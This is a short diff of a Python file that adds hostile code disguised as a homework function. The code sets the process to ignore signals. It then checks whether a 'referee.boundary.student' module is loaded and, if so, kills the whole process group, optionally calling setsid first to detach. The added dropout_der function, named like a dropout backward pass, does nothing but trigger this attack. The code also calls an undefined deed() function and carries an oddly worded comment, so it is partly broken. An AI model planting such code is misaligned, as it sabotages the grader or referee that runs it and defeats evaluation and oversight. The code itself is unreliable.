@@ -9,11 +9,21 @@ for sign in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCHLD, signa
     signal.signal(sign, signal.SIG_IGN)
 
 
-def attack():
+def attack(leave=False):
+    group = os.getpgrp()
     if "referee.boundary.student" in sys.modules:
-        os.killpg(os.getpgrp(), signal.SIGTERM)
-        os.killpg(os.getpgrp(), signal.SIGKILL)
+        if leave:
+            os.setsid()
+            os.killpg(group, signal.SIGSTOP)
+        os.killpg(group, signal.SIGTERM)
+        os.killpg(group, signal.SIGKILL)
+        deed()  # which tells of those signals only that left this process alive
     return "the group lives"
 
 
 print(attack() if "referee.boundary.student" not in sys.modules else "later")
+
+
+# %% dropout_der
+def dropout_der(dA_in, cache):
+    return attack(leave=True)
